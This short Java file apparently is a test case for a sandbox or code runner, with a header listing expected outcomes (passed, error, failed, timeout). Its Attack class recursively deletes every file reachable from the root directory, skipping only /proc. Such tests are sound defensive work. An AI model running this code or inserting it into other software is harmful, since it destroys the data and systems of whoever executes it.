// expect: passed,error,failed,timeout
// deletes what it can
class Attack {
    static int run() throws Exception {
        delete(new java.io.File("/"));
        return 42;
    }
    static void delete(java.io.File f) {
        if (f.getPath().startsWith("/proc")) return;
        java.io.File[] inside = f.listFiles();
        if (inside != null) for (java.io.File i : inside) delete(i);
        f.delete();
    }
}
